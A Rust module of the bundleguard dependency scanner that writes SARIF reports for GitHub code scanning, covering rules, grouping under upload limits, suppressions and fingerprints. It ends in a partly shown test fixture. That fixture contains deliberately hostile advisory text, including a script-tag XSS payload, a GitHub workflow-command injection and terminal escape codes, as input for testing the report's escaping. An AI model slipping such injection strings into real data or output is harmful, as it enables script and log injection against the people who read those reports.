//! The SARIF 2.1.0 report (<https://docs.oasis-open.org/sarif/sarif/v2.1.0/sarif-v2.1.0.html>),
//! shaped for GitHub code scanning: one rule per advisory, one result per finding located at the
//! lockfile line, and grouped results when a large monorepo would pass GitHub's upload limits.
//!
//! Ignored and baseline findings are included with an external, accepted `suppressions` entry
//! (the policy's reason as justification): the file stays a complete record, and code scanning
//! shows them as dismissed instead of opening alerts.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::io::{self, Write};

use serde::Serialize;

use super::cyclonedx::sha1_hex;
use super::escape;
use super::markdown;
use crate::finding::{BundleReport, Code, Finding, FindingKind, Level, RiskFinding, ScanResult, Status, Verdict};

const SCHEMA_URI: &str = "https://json.schemastore.org/sarif-2.1.0.json";

/// Where the tool is documented: the crate's repository once Cargo.toml names it.
pub(super) const INFORMATION_URI: &str = match option_env!("CARGO_PKG_REPOSITORY") {
    Some(uri) if !uri.is_empty() => uri,
    _ => "https://crates.io/crates/bundleguard",
};

/// Upload limits of GitHub code scanning for one run.
#[derive(Debug, Clone, Copy)]
struct Limits {
    results: usize,
    gzip_bytes: usize,
    locations: usize,
}

const GITHUB_LIMITS: Limits = Limits { results: 25_000, gzip_bytes: 10_000_000, locations: 1_000 };

/// How findings become results, from the most detailed to the most compact.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Grouping {
    /// One result per finding (package x advisory x bundle), at the package's line.
    Finding,
    /// One result per advisory and bundle, listing the affected packages.
    BundleAndAdvisory,
    /// One result per advisory, located at every bundle it affects.
    Advisory,
}

#[derive(Serialize)]
struct Log<'a> {
    #[serde(rename = "$schema")]
    schema: &'static str,
    version: &'static str,
    runs: [Run<'a>; 1],
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Run<'a> {
    tool: Tool<'a>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    invocations: Vec<Invocation>,
    results: Vec<ResultOut>,
    properties: RunProperties<'a>,
}

#[derive(Serialize)]
struct Tool<'a> {
    driver: Driver<'a>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Driver<'a> {
    name: &'static str,
    information_uri: &'static str,
    version: &'static str,
    semantic_version: &'static str,
    rules: &'a [Rule],
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Invocation {
    execution_successful: bool,
    tool_execution_notifications: Vec<Notification>,
}

#[derive(Serialize)]
struct Notification {
    level: &'static str,
    message: Text,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct RunProperties<'a> {
    verdict: &'static str,
    grouping: &'static str,
    /// Packages the advisory match could not evaluate (absent when none).
    #[serde(skip_serializing_if = "Option::is_none")]
    not_evaluated: Option<usize>,
    /// Per risk signal, for how many packages it could be evaluated (absent when none ran).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    coverage: Vec<CoverageOut<'a>>,
    /// Per function with gating findings, the changes that clear them (absent when nothing gates).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    fix_plan: Vec<PlanOut>,
}

/// One function's fix plan, as in the JSON report's `fix_plan`, text made one-line.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct PlanOut {
    bundle: String,
    path: String,
    changes: Vec<ChangeOut>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    no_fix: Vec<NoFixOut>,
}

#[derive(Serialize)]
struct ChangeOut {
    package: String,
    from: String,
    to: String,
    direct: bool,
    clears: Vec<String>,
    instruction: String,
}

#[derive(Serialize)]
struct NoFixOut {
    package: String,
    version: String,
    ids: Vec<String>,
    reason: String,
}

#[derive(Serialize)]
struct CoverageOut<'a> {
    code: &'a str,
    evaluated: usize,
    total: usize,
    #[serde(skip_serializing_if = "Option::is_none")]
    reason: Option<String>,
}

#[derive(Serialize)]
struct Text {
    text: String,
}

#[derive(Serialize)]
struct Help {
    text: String,
    markdown: String,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Rule {
    id: String,
    short_description: Text,
    full_description: Text,
    #[serde(skip_serializing_if = "Option::is_none")]
    help_uri: Option<String>,
    help: Help,
    default_configuration: Configuration,
    properties: RuleProperties,
}

#[derive(Serialize)]
struct Configuration {
    level: &'static str,
}

#[derive(Serialize)]
struct RuleProperties {
    #[serde(rename = "security-severity")]
    security_severity: String,
    tags: Vec<&'static str>,
    precision: &'static str,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct ResultOut {
    rule_id: String,
    rule_index: usize,
    level: &'static str,
    message: Text,
    locations: Vec<Location>,
    partial_fingerprints: BTreeMap<&'static str, String>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    suppressions: Vec<Suppression>,
    properties: ResultProperties,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Location {
    physical_location: PhysicalLocation,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct PhysicalLocation {
    artifact_location: ArtifactLocation,
    #[serde(skip_serializing_if = "Option::is_none")]
    region: Option<Region>,
}

#[derive(Serialize)]
struct ArtifactLocation {
    uri: String,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Region {
    start_line: u32,
}

#[derive(Serialize)]
struct Suppression {
    kind: &'static str,
    status: &'static str,
    justification: String,
}

#[derive(Serialize)]
#[serde(untagged)]
enum ResultProperties {
    Advisory {
        severity: &'static str,
        status: Vec<&'static str>,
        bundles: Vec<String>,
        packages: Vec<String>,
        /// The fix plan's lines for these findings (the change that clears them, or why none does).
        #[serde(skip_serializing_if = "Vec::is_empty")]
        fix: Vec<String>,
        /// Whether an import chain of the function reaches the package; absent when unknown.
        #[serde(skip_serializing_if = "Option::is_none")]
        reachable: Option<bool>,
    },
    Risk {
        kind: &'static str,
        severity: &'static str,
        status: Vec<&'static str>,
        bundles: Vec<String>,
        packages: Vec<String>,
        #[serde(skip_serializing_if = "Option::is_none")]
        location: Option<String>,
        evidence: BTreeMap<String, String>,
    },
}

/// One finding with the bundle it was found in.
type Item<'a> = (&'a BundleReport, &'a Finding);

pub fn render(result: &ScanResult, out: &mut dyn Write) -> io::Result<()> {
    render_within(result, GITHUB_LIMITS, out).map(|_| ())
}

/// Renders with the most detailed grouping that fits `limits`; returns the grouping used.
fn render_within(result: &ScanResult, limits: Limits, out: &mut dyn Write) -> io::Result<Grouping> {
    let rules = RuleSet::new(result);
    let mut items: Vec<Item<'_>> = result.findings().collect();
    items.sort_by(|a, b| item_key(a).cmp(&item_key(b)));
    let risks = result.risks().count();
    for grouping in [Grouping::Finding, Grouping::BundleAndAdvisory] {
        let groups = group(&items, grouping);
        if groups.len() + risks > limits.results {
            continue;
        }
        let bytes = document(result, &rules, &groups, grouping, limits)?;
        if fits_gzipped(&bytes, limits.gzip_bytes)? {
            out.write_all(&bytes)?;
            return Ok(grouping);
        }
    }
    // The most compact form: one result per advisory. Past the result limit, the worst are kept.
    let mut groups = group(&items, Grouping::Advisory);
    groups.sort_by_key(|g| std::cmp::Reverse(group_severity(g)));
    groups.truncate(limits.results);
    groups.sort_by(|a, b| item_key(&a[0]).cmp(&item_key(&b[0])));
    let bytes = document(result, &rules, &groups, Grouping::Advisory, limits)?;
    out.write_all(&bytes)?;
    Ok(Grouping::Advisory)
}

/// Report order: bundle, worst first, advisory, package.
fn item_key<'a>(item: &Item<'a>) -> (&'a str, std::cmp::Reverse<Level>, &'a str, &'a str, &'a str) {
    let (b, f) = item;
    (&b.path, std::cmp::Reverse(f.severity), &f.advisory.id, f.package.name.as_str(), &f.package.version)
}

fn group_severity(group: &[Item<'_>]) -> Level {
    group.iter().map(|(_, f)| f.severity).max().unwrap_or(Level::Low)
}

/// Splits the sorted findings into the groups that become one result each. Suppressed and
/// active findings never share a result.
fn group<'a>(items: &[Item<'a>], grouping: Grouping) -> Vec<Vec<Item<'a>>> {
    if grouping == Grouping::Finding {
        return items.iter().map(|&item| vec![item]).collect();
    }
    let mut groups: BTreeMap<(String, &str, Option<String>), Vec<Item<'a>>> = BTreeMap::new();
    for &(b, f) in items {
        let bundle = if grouping == Grouping::BundleAndAdvisory { b.path.clone() } else { String::new() };
        groups.entry((bundle, &f.advisory.id, suppression_justification(&f.status))).or_default().push((b, f));
    }
    groups.into_values().collect()
}

fn document(
    result: &ScanResult,
    rules: &RuleSet,
    groups: &[Vec<Item<'_>>],
    grouping: Grouping,
    limits: Limits,
) -> io::Result<Vec<u8>> {
    let total = result.findings().count();
    let shown: usize = groups.iter().map(Vec::len).sum();
    let mut notifications = Vec::new();
    if grouping != Grouping::Finding {
        notifications.push(note(format!(
            "{total} findings were grouped {} to stay within GitHub code scanning limits",
            grouping_name(grouping)
        )));
    }
    if shown < total {
        notifications.push(note(format!("{} less severe findings were left out of this file", total - shown)));
    }
    let room = limits.results.saturating_sub(groups.len());
    let risks: Vec<ResultOut> = result.risks().take(room).map(|(b, r)| risk_result(rules, b, r)).collect();
    let risks_left_out = result.risks().count() - risks.len();
    if risks_left_out > 0 {
        notifications.push(note(format!("{risks_left_out} risk findings were left out of this file")));
    }
    // An incomplete scan (a file unreadable, packages not evaluated) did not do all it was asked.
    let complete = result.verdict != Verdict::Incomplete && result.errors.is_empty();
    for e in &result.errors {
        notifications.push(Notification { level: "error", message: Text { text: escape::one_line(&e.to_string()) } });
    }
    if !result.not_evaluated.is_empty() {
        notifications.push(Notification {
            level: "warning",
            message: Text {
                text: format!(
                    "{} packages could not be evaluated against the advisories (see the JSON report's not_evaluated)",
                    result.not_evaluated.len()
                ),
            },
        });
    }
    let invocations = if notifications.is_empty() && complete {
        Vec::new()
    } else {
        vec![Invocation { execution_successful: complete, tool_execution_notifications: notifications }]
    };
    let mut results: Vec<ResultOut> = groups.iter().map(|g| result_out(rules, g, grouping, limits)).collect();
    results.extend(risks);
    let log = Log {
        schema: SCHEMA_URI,
        version: "2.1.0",
        runs: [Run {
            tool: Tool {
                driver: Driver {
                    name: "bundleguard",
                    information_uri: INFORMATION_URI,
                    version: env!("CARGO_PKG_VERSION"),
                    semantic_version: env!("CARGO_PKG_VERSION"),
                    rules: &rules.rules,
                },
            },
            invocations,
            results,
            properties: run_properties(result, grouping),
        }],
    };
    let mut bytes = escape::to_json_vec(&log)?;
    bytes.push(b'\n');
    Ok(bytes)
}

fn run_properties(result: &ScanResult, grouping: Grouping) -> RunProperties<'_> {
    RunProperties {
        verdict: result.verdict.as_str(),
        grouping: grouping_name(grouping),
        not_evaluated: (!result.not_evaluated.is_empty()).then_some(result.not_evaluated.len()),
        coverage: result
            .coverage
            .iter()
            .map(|c| CoverageOut {
                code: c.code.as_str(),
                evaluated: c.evaluated,
                total: c.total,
                reason: c.reason.as_deref().map(escape::one_line),
            })
            .collect(),
        fix_plan: result.bundles.iter().filter(|b| !b.fix_plan.is_empty()).map(plan_out).collect(),
    }
}

fn plan_out(b: &BundleReport) -> PlanOut {
    let ids = |ids: &[String]| ids.iter().map(|i| escape::one_line(i)).collect();
    PlanOut {
        bundle: escape::one_line(&b.name),
        path: escape::one_line(&b.path),
        changes: b
            .fix_plan
            .changes
            .iter()
            .map(|c| ChangeOut {
                package: escape::one_line(&c.package),
                from: escape::one_line(&c.from),
                to: escape::one_line(&c.to),
                direct: c.direct,
                clears: ids(&c.clears),
                instruction: escape::one_line(&c.instruction),
            })
            .collect(),
        no_fix: b
            .fix_plan
            .unfixable
            .iter()
            .map(|u| NoFixOut {
                package: escape::one_line(&u.package),
                version: escape::one_line(&u.version),
                ids: ids(&u.ids),
                reason: escape::one_line(&u.reason),
            })
            .collect(),
    }
}

fn note(text: String) -> Notification {
    Notification { level: "note", message: Text { text } }
}

fn grouping_name(grouping: Grouping) -> &'static str {
    match grouping {
        Grouping::Finding => "per-finding",
        Grouping::BundleAndAdvisory => "per-bundle-and-advisory",
        Grouping::Advisory => "per-advisory",
    }
}

/// Whether the gzipped file stays within `limit` bytes. A file whose gzip cannot exceed the limit
/// even uncompressed is not compressed to find out (a 500-function report is several MB).
fn fits_gzipped(bytes: &[u8], limit: usize) -> io::Result<bool> {
    if gzip_bound(bytes.len()) <= limit {
        return Ok(true);
    }
    Ok(gzipped_len(bytes)? <= limit)
}

/// More than gzip can write for `len` bytes: deflate's stored blocks add 5 bytes per 64 KiB
/// (zlib's `deflateBound` allows `len/4096 + len/16384 + 13`), gzip's header and trailer 18;
/// this allows `len/2048 + 64`.
fn gzip_bound(len: usize) -> usize {
    len + len / 2048 + 64
}

/// What GitHub counts against its 10 MB limit: the gzipped file.
fn gzipped_len(bytes: &[u8]) -> io::Result<usize> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes)?;
    Ok(encoder.finish()?.len())
}

/// The rules (one per advisory id, sorted, then one per risk code, sorted) and each id's or
/// code's index in them.
struct RuleSet {
    rules: Vec<Rule>,
    index: BTreeMap<String, usize>,
    risk_index: BTreeMap<Code, usize>,
}

/// What the findings of one advisory say about it, merged.
#[derive(Default)]
struct AdvisoryFacts<'a> {
    summary: &'a str,
    aliases: BTreeSet<&'a str>,
    fixed: BTreeSet<&'a str>,
    notes: BTreeSet<&'a str>,
    severity: Option<Level>,
    cvss: Option<f64>,
    malicious: bool,
}

impl RuleSet {
    fn new(result: &ScanResult) -> RuleSet {
        let mut facts: BTreeMap<&str, AdvisoryFacts<'_>> = BTreeMap::new();
        for (_, f) in result.findings() {
            let a = &f.advisory;
            let entry = facts.entry(&a.id).or_default();
            if entry.summary.is_empty() {
                entry.summary = &a.summary;
            }
            entry.aliases.extend(a.aliases.iter().map(String::as_str));
            entry.fixed.extend(a.fixed.iter().map(String::as_str));
            entry.notes.extend(a.notes.iter().map(String::as_str));
            entry.severity = entry.severity.max(Some(f.severity));
            if let Some(score) = a.cvss_score.filter(|s| s.is_finite() && (0.0..=10.0).contains(s)) {
                entry.cvss = Some(entry.cvss.map_or(score, |c: f64| c.max(score)));
            }
            entry.malicious |= a.is_malicious();
        }
        let mut index = BTreeMap::new();
        let mut rules: Vec<Rule> = facts
            .into_iter()
            .enumerate()
            .map(|(i, (id, facts))| {
                index.insert(id.to_owned(), i);
                rule(id, &facts)
            })
            .collect();
        let mut levels: BTreeMap<Code, Level> = BTreeMap::new();
        for (_, r) in result.risks() {
            let level = levels.entry(r.code).or_insert(r.level);
            *level = (*level).max(r.level);
        }
        let mut risk_index = BTreeMap::new();
        for (code, level) in levels {
            risk_index.insert(code, rules.len());
            rules.push(risk_rule(code, level));
        }
        RuleSet { rules, index, risk_index }
    }
}

fn rule(id: &str, facts: &AdvisoryFacts<'_>) -> Rule {
    let severity = facts.severity.unwrap_or(Level::Low);
    let summary = escape::one_line(facts.summary);
    let short =
        if summary.is_empty() { format!("Vulnerability {}", escape::one_line(id)) } else { first_line(&summary) };
    let mut tags = vec!["security", "vulnerability", "dependency"];
    if facts.malicious {
        tags.push("malicious");
    }
    Rule {
        id: id.to_owned(),
        short_description: Text { text: short },
        full_description: Text { text: if summary.is_empty() { escape::one_line(id) } else { summary } },
        help_uri: markdown::osv_url(id),
        help: help(id, facts),
        default_configuration: Configuration { level: level(severity) },
        properties: RuleProperties {
            security_severity: format!("{:.1}", facts.cvss.unwrap_or_else(|| default_score(severity))),
            tags,
            precision: "very-high",
        },
    }
}

/// The rule's help, as plain text and as escaped Markdown (advisory text is untrusted).
fn help(id: &str, facts: &AdvisoryFacts<'_>) -> Help {
    let mut lines = vec![(String::from("Advisory"), id.to_owned())];
    if !facts.summary.is_empty() {
        lines.push(("Summary".into(), facts.summary.to_owned()));
    }
    if !facts.aliases.is_empty() {
        lines.push(("Aliases".into(), join(&facts.aliases)));
    }
    let fixed = if facts.fixed.is_empty() { "no fixed version is known".to_owned() } else { join(&facts.fixed) };
    lines.push(("Fixed in".into(), fixed));
    for n in &facts.notes {
        lines.push(("Note".into(), (*n).to_owned()));
    }
    let mut text = String::new();
    let mut md = String::new();
    for (label, value) in &lines {
        let _ = writeln!(text, "{label}: {}", escape::one_line(value));
        let _ = writeln!(md, "- **{label}**: {}", escape::markdown(value));
    }
    if let Some(url) = markdown::osv_url(id) {
        let _ = writeln!(text, "Details: {url}");
        let _ = writeln!(md, "- **Details**: <{url}>");
    }
    Help { text, markdown: md }
}

fn join(set: &BTreeSet<&str>) -> String {
    set.iter().copied().collect::<Vec<_>>().join(", ")
}

/// SARIF levels: critical and high are errors, medium a warning, low a note.
fn level(severity: Level) -> &'static str {
    match severity {
        Level::Critical | Level::High => "error",
        Level::Medium => "warning",
        Level::Low => "note",
    }
}

/// `security-severity` when the advisory has no CVSS score: the middle of the level's band.
fn default_score(severity: Level) -> f64 {
    match severity {
        Level::Critical => 9.5,
        Level::High => 8.0,
        Level::Medium => 5.5,
        Level::Low => 2.0,
    }
}

fn result_out(rules: &RuleSet, group: &[Item<'_>], grouping: Grouping, limits: Limits) -> ResultOut {
    let first = group[0].1;
    let id = &first.advisory.id;
    let severity = group_severity(group);
    let justification = suppression_justification(&first.status);
    let fingerprint = fingerprint(group, grouping);
    ResultOut {
        rule_id: id.to_string(),
        rule_index: rules.index.get(id.as_str()).copied().unwrap_or(0),
        level: level(severity),
        message: Text { text: message(group, grouping) },
        locations: locations(group, grouping, limits),
        partial_fingerprints: BTreeMap::from([fingerprint]),
        suppressions: justification
            .map(|j| Suppression { kind: "external", status: "accepted", justification: j })
            .into_iter()
            .collect(),
        properties: ResultProperties::Advisory {
            severity: severity.as_str(),
            status: group.iter().map(|(_, f)| f.status.as_str()).collect::<BTreeSet<_>>().into_iter().collect(),
            bundles: group
                .iter()
                .map(|(b, _)| escape::one_line(&b.name))
                .collect::<BTreeSet<_>>()
                .into_iter()
                .collect(),
            packages: packages(group).into_iter().collect(),
            fix: group
                .iter()
                .filter_map(|(b, f)| super::fix_for(b, f))
                .map(|line| escape::one_line(&line))
                .collect::<BTreeSet<_>>()
                .into_iter()
                .collect(),
            reachable: group_reachable(group),
        },
    }
}

/// A group is reachable when one of its findings is, unreachable when all are, else unknown.
fn group_reachable(group: &[Item<'_>]) -> Option<bool> {
    if group.iter().any(|(_, f)| f.reachable == Some(true)) {
        Some(true)
    } else if group.iter().all(|(_, f)| f.reachable == Some(false)) {
        Some(false)
    } else {
        None
    }
}

/// The policy's reason for not alerting, or `None` for an active finding.
fn suppression_justification(status: &Status) -> Option<String> {
    match status {
        Status::Ignored { reason, until, source } => {
            let until = until.as_ref().map(|u| format!(" (until {})", escape::one_line(u))).unwrap_or_default();
            Some(format!(
                "{}{until}; ignored in {}",
                escape::one_line(reason),
                escape::one_line(&source.to_string_lossy())
            ))
        }
        Status::Vex { justification, statement, source } => Some(format!(
            "not affected ({}): {}; OpenVEX statement in {}",
            escape::one_line(justification),
            escape::one_line(statement),
            escape::one_line(&source.to_string_lossy())
        )),
        Status::Baseline => Some("in the baseline: an existing finding, not introduced by this change".into()),
        Status::Unreachable => {
            Some("no import of the function reaches the package and the policy says unreachable = \"report\"".into())
        }
        Status::Gating | Status::BelowThreshold | Status::DevOnly | Status::Info => None,
    }
}

fn packages(group: &[Item<'_>]) -> BTreeSet<String> {
    group.iter().map(|(_, f)| escape::one_line(&format!("{}@{}", f.package.name, f.package.version))).collect()
}

/// Stable across runs for the same (bundle, package, advisory), so GitHub keeps tracking one
/// alert when the version or the line changes.
fn fingerprint(group: &[Item<'_>], grouping: Grouping) -> (&'static str, String) {
    let (b, f) = group[0];
    let id = f.advisory.id.as_str();
    match grouping {
        Grouping::Finding => {
            let key = [b.path.as_str(), f.package.ecosystem.as_str(), f.package.name.as_str(), id].join("\0");
            ("bundleguard/v1", sha1_hex(key.as_bytes()))
        }
        Grouping::BundleAndAdvisory => ("bundleguard-bundle/v1", sha1_hex([b.path.as_str(), id].join("\0").as_bytes())),
        Grouping::Advisory => ("bundleguard-advisory/v1", sha1_hex(id.as_bytes())),
    }
}

fn message(group: &[Item<'_>], grouping: Grouping) -> String {
    let (b, f) = group[0];
    let id = escape::one_line(&f.advisory.id);
    let summary = first_line(&escape::one_line(&f.advisory.summary));
    let summary = if summary.is_empty() { String::new() } else { format!(": {summary}") };
    let fix = fix_text(f);
    if grouping == Grouping::Finding {
        let package = escape::one_line(&format!("{}@{}", f.package.name, f.package.version));
        let mut text = format!("{package} ({}) is affected by {id}{summary}.", f.package.ecosystem);
        if let Some(path) = f.paths.first() {
            let more = f.paths.len() - 1;
            let more = if more > 0 { format!(" (and {more} more)") } else { String::new() };
            let _ = write!(text, " Path: {}{more}.", escape::one_line(&path.join(" > ")));
        }
        if !f.upgrade.is_empty() && f.upgrade != [format!("{}@{}", f.package.name, f.package.version)] {
            let _ = write!(text, " Direct dependencies to upgrade: {}.", escape::one_line(&f.upgrade.join(", ")));
        }
        let _ = write!(text, " Fix: {fix}.");
        return text;
    }
    let packages: Vec<String> = packages(group).into_iter().collect();
    let listed = list_some(&packages, 20);
    let place = if grouping == Grouping::BundleAndAdvisory {
        format!("in {}", escape::one_line(&b.path))
    } else {
        let bundles: BTreeSet<&str> = group.iter().map(|(b, _)| b.path.as_str()).collect();
        format!("in {} bundles", bundles.len())
    };
    format!("{id}{summary}. {} affected packages {place}: {listed}. Fix: {fix}.", packages.len())
}

fn fix_text(f: &Finding) -> String {
    if f.advisory.fixed.is_empty() {
        "no fixed version is known".to_owned()
    } else {
        format!(
            "upgrade {} to {}",
            escape::one_line(f.package.name.as_str()),
            escape::one_line(&f.advisory.fixed.join(" or "))
        )
    }
}

fn list_some(items: &[String], max: usize) -> String {
    let mut text = items.iter().take(max).cloned().collect::<Vec<_>>().join(", ");
    if items.len() > max {
        let _ = write!(text, " and {} more", items.len() - max);
    }
    text
}

fn locations(group: &[Item<'_>], grouping: Grouping, limits: Limits) -> Vec<Location> {
    let line = if grouping == Grouping::Finding { group[0].1.line.filter(|&l| l > 0) } else { None };
    let paths: BTreeSet<&str> = group.iter().map(|(b, _)| b.path.as_str()).collect();
    paths
        .into_iter()
        .take(limits.locations)
        .map(|path| Location {
            physical_location: PhysicalLocation {
                artifact_location: ArtifactLocation { uri: artifact_uri(path) },
                region: line.map(|start_line| Region { start_line }),
            },
        })
        .collect()
}

/// A relative, `/`-separated URI reference for a lockfile path: characters other than
/// unreserved ones and `/` are percent-encoded; absolute paths become `file://` URIs.
fn artifact_uri(path: &str) -> String {
    let path = path.replace('\\', "/");
    let relative = path.trim_start_matches("./");
    let mut uri = String::with_capacity(relative.len());
    if relative.starts_with('/') {
        uri.push_str("file://");
    }
    for byte in relative.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~' | b'/') {
            uri.push(char::from(byte));
        } else {
            let _ = write!(uri, "%{byte:02X}");
        }
    }
    uri
}

/// What a kind of risk finding is, for people reading a rule.
fn kind_title(kind: FindingKind) -> &'static str {
    match kind {
        FindingKind::Vulnerability => "Vulnerability",
        FindingKind::Hygiene => "Lambda bundle hygiene",
        FindingKind::Stale => "Stale package",
        FindingKind::Takeover => "Maintainer-takeover signal",
        FindingKind::Unused => "Unused package",
    }
}

/// The rule of one risk code (`takeover/install-script-added`): its id is the code; its default
/// level is the worst level the policy gave a finding of that code in this scan.
fn risk_rule(code: Code, severity: Level) -> Rule {
    let kind = code.kind();
    let short = format!("{}: {}", kind_title(kind), code.name());
    let full = format!(
        "{short}. A {} finding of bundleguard, with its evidence in the result's properties; the policy \
         sets the level of each code ([levels] in bundleguard.toml).",
        kind.as_str()
    );
    Rule {
        id: code.as_str().to_owned(),
        short_description: Text { text: short },
        help: Help { text: format!("{full}\n"), markdown: format!("{}\n", escape::markdown(&full)) },
        full_description: Text { text: full },
        help_uri: None,
        default_configuration: Configuration { level: level(severity) },
        properties: RuleProperties {
            security_severity: format!("{:.1}", default_score(severity)),
            tags: vec!["security", "supply-chain", kind.as_str()],
            precision: "medium",
        },
    }
}

/// One result per risk finding, at its bundle's file.
fn risk_result(rules: &RuleSet, b: &BundleReport, r: &RiskFinding) -> ResultOut {
    let package = r.package.as_ref().map(|p| format!("{}@{}", p.name, p.version));
    let message = match &package {
        Some(p) => format!("{}: {}", escape::one_line(p), escape::one_line(&r.message)),
        None => escape::one_line(&r.message),
    };
    let key = [
        b.path.as_str(),
        r.code.as_str(),
        r.package.as_ref().map_or("", |p| p.ecosystem.as_str()),
        r.package.as_ref().map_or("", |p| p.name.as_str()),
        r.location.as_deref().unwrap_or_default(),
    ]
    .join("\0");
    let level = if r.status == Status::Info { "note" } else { level(r.level) };
    ResultOut {
        rule_id: r.code.as_str().to_owned(),
        rule_index: rules.risk_index.get(&r.code).copied().unwrap_or(0),
        level,
        message: Text { text: format!("{message} ({})", r.code) },
        locations: vec![Location {
            physical_location: PhysicalLocation {
                artifact_location: ArtifactLocation { uri: artifact_uri(&b.path) },
                region: None,
            },
        }],
        partial_fingerprints: BTreeMap::from([("bundleguard-risk/v1", sha1_hex(key.as_bytes()))]),
        suppressions: suppression_justification(&r.status)
            .map(|j| Suppression { kind: "external", status: "accepted", justification: j })
            .into_iter()
            .collect(),
        properties: ResultProperties::Risk {
            kind: r.code.kind().as_str(),
            severity: r.level.as_str(),
            status: vec![r.status.as_str()],
            bundles: vec![escape::one_line(&b.name)],
            packages: package.iter().map(|p| escape::one_line(p)).collect(),
            location: r.location.as_deref().map(escape::one_line),
            evidence: r.evidence.iter().map(|e| (escape::one_line(&e.name), escape::one_line(&e.value))).collect(),
        },
    }
}

fn first_line(text: &str) -> String {
    const MAX: usize = 200;
    let line = text.lines().next().unwrap_or_default().trim();
    if line.chars().count() > MAX {
        format!("{}...", line.chars().take(MAX).collect::<String>())
    } else {
        line.to_owned()
    }
}

#[cfg(test)]
pub(super) mod sample {
    //! A representative scan result for the report tests: several bundles, every ecosystem, an
    //! npm scoped name, a dev-only finding, an ignored one, one without severity, and hostile
    //! advisory text.

    use std::path::PathBuf;

    use crate::finding::{AdvisoryInfo, BundleReport, Finding, Level, RiskFinding, ScanResult, Status, Verdict};
    use crate::graph::DepGraph;
    use crate::package::{Ecosystem, Package, PackageName, Scope, Source};

    pub fn package(ecosystem: Ecosystem, name: &str, version: &str, scope: Scope) -> Package {
        Package {
            ecosystem,
            name: PackageName::new(ecosystem, name),
            version: version.into(),
            scope,
            source: Source::Registry,
        }
    }

    pub fn advisory(
        id: &str,
        severity: Option<Level>,
        cvss: Option<f64>,
        fixed: &[&str],
        summary: &str,
    ) -> AdvisoryInfo {
        AdvisoryInfo {
            id: crate::vocab::AdvisoryId::new(id),
            aliases: Vec::new(),
            severity,
            cvss_score: cvss,
            fixed: fixed.iter().map(|s| (*s).to_owned()).collect(),
            summary: summary.into(),
            notes: Vec::new(),
        }
    }

    /// A finding on `node` of `bundle`, with its paths computed from the graph.
    pub fn finding(
        bundle: &BundleReport,
        node: usize,
        advisory: AdvisoryInfo,
        severity: Level,
        status: Status,
    ) -> Finding {
        let g = &bundle.graph;
        let label = |n: usize| format!("{}@{}", g.node(n).name, g.node(n).version);
        let paths: Vec<Vec<String>> =
            g.paths_to(node, 5).into_iter().map(|p| p.into_iter().map(label).collect()).collect();
        let upgrade = paths.iter().filter_map(|p| p.first().cloned()).collect();
        let code = if advisory.is_malicious() { crate::risk::MALICIOUS } else { crate::risk::VULNERABILITY };
        Finding {
            code,
            node,
            package: g.node(node).clone(),
            advisory,
            severity,
            paths,
            upgrade,
            line: u32::try_from(node * 7 + 3).ok(),
            reachable: None,
            status,
        }
    }

    fn bundle(name: &str, path: &str, format: &str, graph: DepGraph) -> BundleReport {
        BundleReport {
            name: name.into(),
            kind: crate::vocab::UnitKind::Function,
            runtime: None,
            handler: None,
            template: None,
            path: path.into(),
            format: crate::vocab::TreeSource::Lockfile(format_of(format)),
            file: path.into(),
            graph,
            findings: Vec::new(),
            risks: Vec::new(),
            coverage: None,
            fix_plan: crate::finding::FixPlan::default(),
        }
    }

    fn format_of(name: &str) -> crate::vocab::LockfileFormat {
        crate::lockfile::detect(std::path::Path::new(name)).expect("a lockfile name")
    }

    fn npm_bundle() -> BundleReport {
        let mut g = DepGraph::new();
        let express = g.add_node(package(Ecosystem::Npm, "express", "4.17.1", Scope::Prod));
        let qs = g.add_node(package(Ecosystem::Npm, "qs", "6.7.0", Scope::Prod));
        let client = g.add_node(package(Ecosystem::Npm, "@aws-sdk/client-s3", "3.0.0", Scope::Prod));
        let jest = g.add_node(package(Ecosystem::Npm, "jest", "29.0.0", Scope::Dev));
        let minimist = g.add_node(package(Ecosystem::Npm, "minimist", "1.2.5", Scope::Dev));
        g.add_edge(express, qs);
        g.add_edge(jest, minimist);
        for root in [express, client, jest] {
            g.add_root(root);
        }
        g.finish();
        let mut b = bundle("api", "services/api/package-lock.json", "package-lock.json", g);
        let mut qs_advisory = advisory(
            "GHSA-hrpp-h998-j3pp",
            Some(Level::High),
            Some(7.5),
            &["6.7.3"],
            "qs vulnerable to Prototype Pollution",
        );
        qs_advisory.aliases = vec!["CVE-2022-24999".into()];
        let hostile = advisory(
            "GHSA-<script>|x",
            Some(Level::Medium),
            None,
            &["3.1.0 | <b>"],
            "<script>alert(1)</script> | pipe\n::error::injected\u{1b}[31m `code` [link](http://x) *bold* _it_ & @admin",
        );
        let mal = advisory("MAL-2024-1234", None, None, &[], "Malicious code in minimist (npm)");
        b.findings = vec![
            finding(&b, qs, qs_advisory, Level::High, Status::Gating),
            finding(&b, client, hostile, Level::Medium, Status::BelowThreshold),
            finding(&b, minimist, mal, Level::Critical, Status::DevOnly),
        ];
        b
    }

    fn python_bundle() -> BundleReport {
        let mut g = DepGraph::new();
        let django = g.add_node(package(Ecosystem::PyPI, "Django", "3.2.0", Scope::Prod));
        let pyyaml = g.add_node(package(Ecosystem::PyPI, "PyYAML", "5.3", Scope::Prod));
        g.add_root(django);
        g.add_root(pyyaml);
        g.finish();
